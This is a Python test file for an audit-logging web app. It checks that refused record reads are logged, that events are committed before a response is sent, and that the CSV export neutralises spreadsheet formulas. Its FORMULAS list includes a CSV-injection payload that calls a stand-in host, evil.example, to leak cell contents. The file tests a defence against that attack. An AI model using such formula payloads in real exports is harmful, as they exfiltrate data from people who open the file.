"""The audit log over HTTP: refused reads are logged, events are committed before the
answer leaves, and the CSV export cannot carry a spreadsheet formula (issue 11, findings
7 and 9)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from typing import Any

from fastapi.testclient import TestClient
from sqlalchemy import Engine, func, select

from tests.factories import make_person
from tests.web.conftest import ADMIN, OFFICER, PARTNER, PASSWORD, Site, sign_in
from threadline.accounts import add_user
from threadline.accounts.login import actor_for
from threadline.audit.refusals import REFUSED_EVENT
from threadline.check import check
from threadline.settings import Settings
from threadline.storage.db import make_engine, session_scope
from threadline.storage.tables import AuditEventRow
from threadline.web import create_app

DPO = "dpo@ersou"


def refusals(engine: Engine) -> list[AuditEventRow]:
    with session_scope(engine) as session:
        rows = session.scalars(
            select(AuditEventRow)
            .where(AuditEventRow.event == REFUSED_EVENT)
            .order_by(AuditEventRow.id)
        ).all()
        session.expunge_all()
        return list(rows)


def secret_person(site: Site) -> int:
    with session_scope(site.engine) as session:
        return make_person(
            session, family_name="Hidden", owner="suffolk", marking="SECRET"
        ).entity_id


def bearer(site: Site) -> dict[str, str]:
    return {"Authorization": f"Bearer {site.officer_token}"}


# --------------------------------------------------------------------- refused reads


def test_an_officer_refused_a_secret_record_leaves_an_event(client: TestClient, site: Site) -> None:
    hidden = secret_person(site)
    reply = client.get(f"/api/v1/people/{hidden}", headers=bearer(site))
    assert reply.status_code == 403
    (event,) = refusals(site.engine)
    assert (event.actor, event.agency, event.action) == (OFFICER, "suffolk", "consultation")
    assert json.loads(event.records) == [hidden]
    details = json.loads(event.details)
    assert details["outcome"] == "refused" and details["status"] == 403
    assert "SECRET" in details["reason"]
    assert details["attempted"] == "GET /api/v1/people/{person_id}"


def test_a_partner_told_not_found_is_still_logged_as_refused(
    client: TestClient, site: Site
) -> None:
    hidden = secret_person(site)
    sign_in(client, PARTNER)
    reply = client.get(f"/people/{hidden}")
    assert reply.status_code == 404
    (event,) = refusals(site.engine)
    assert event.actor == PARTNER and json.loads(event.records) == [hidden]


def test_anonymous_requests_are_answered_but_name_no_actor(client: TestClient, site: Site) -> None:
    hidden = secret_person(site)
    assert client.get(f"/api/v1/people/{hidden}").status_code == 401
    assert refusals(site.engine) == []


def test_a_refused_audit_log_read_is_logged(client: TestClient, site: Site) -> None:
    sign_in(client, OFFICER)
    assert client.get("/audit").status_code == 403
    (event,) = refusals(site.engine)
    assert event.actor == OFFICER
    assert "only data protection officers" in json.loads(event.details)["reason"]


# --------------------------------------------------------------------- commit first


def test_the_check_event_is_committed_before_the_answer_is_sent(
    site: Site, settings: Settings
) -> None:
    """Watch the ASGI messages: when the response starts, another connection must already
    see the check's event (FastAPI's default closes a yield dependency after sending)."""
    app = create_app(settings, site.engine)
    other = make_engine(site.engine.url.render_as_string(hide_password=False))
    seen_at_start: list[int] = []

    def committed_checks() -> int:
        with other.connect() as conn:
            count = conn.execute(
                select(func.count())
                .select_from(AuditEventRow)
                .where(AuditEventRow.event == "check")
            ).scalar_one()
            conn.rollback()
            return int(count)

    before = committed_checks()
    token = site.officer_token.encode()
    scope: dict[str, Any] = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "https",
        "path": "/api/v1/check",
        "raw_path": b"/api/v1/check",
        "query_string": b"reason=stop&name=Jo+Smith&purpose=stop+check",
        "root_path": "",
        "headers": [(b"host", b"testserver"), (b"authorization", b"Bearer " + token)],
        "client": ("127.0.0.1", 5000),
        "server": ("testserver", 443),
        "state": {},
    }
    status: list[int] = []

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            status.append(message["status"])
            seen_at_start.append(committed_checks())

    async def lifespan_and_request() -> None:
        await app(scope, receive, send)

    try:
        asyncio.run(lifespan_and_request())
    finally:
        other.dispose()
    assert status == [200]
    assert seen_at_start == [before + 1]


# --------------------------------------------------------------------- CSV formulas


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "@SUM(1)", "-2+3"]


def test_the_audit_csv_neutralises_formulas_and_quotes_bare_cr_and_tab(
    client: TestClient, site: Site
) -> None:
    # The page, the API and the CLI put the reason's label first ("Stop or encounter: ..."),
    # so the formulas are logged as a caller inside Threadline may log them: as given.
    with session_scope(site.engine) as session:
        officer = actor_for(session, OFFICER)
        for purpose in [*FORMULAS, "\tTAB first", "line\rbreak"]:
            check(session, actor=officer, name="Jo Smith", purpose=purpose)
    with session_scope(site.engine) as session:
        add_user(
            session,
            actor=ADMIN,
            username=DPO,
            display_name="Regional DPO",
            agency_code="ersou",
            roles=["dpo"],
            clearance="SECRET",
            password=PASSWORD,
        )
    sign_in(client, DPO)
    reply = client.get(
        "/audit/export.csv", params={"user": OFFICER, "purpose": "verify_lawfulness"}
    )
    assert reply.status_code == 200
    text = reply.content.decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    purposes = [row["purpose"] for row in rows if row["event"] == "check"]
    assert purposes == [
        *("'" + formula for formula in FORMULAS),
        "'\tTAB first",
        "line\rbreak",
    ]
    # No cell a spreadsheet would run: every text cell starting with = + - @ TAB CR is quoted.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    # The bare CR stays inside its quoted cell; every cell is quoted.
    assert '"line\rbreak"' in text
    assert text.splitlines()[0].startswith('"id","chain_seq","at"')


def test_a_refused_id_past_the_records_index_is_still_logged(
    client: TestClient, site: Site
) -> None:
    reply = client.get("/api/v1/people/9999999999", headers=bearer(site))
    assert reply.status_code == 404
    (event,) = refusals(site.engine)
    assert json.loads(event.records) == []
    assert json.loads(event.details)["other_ids"] == ["9999999999"]
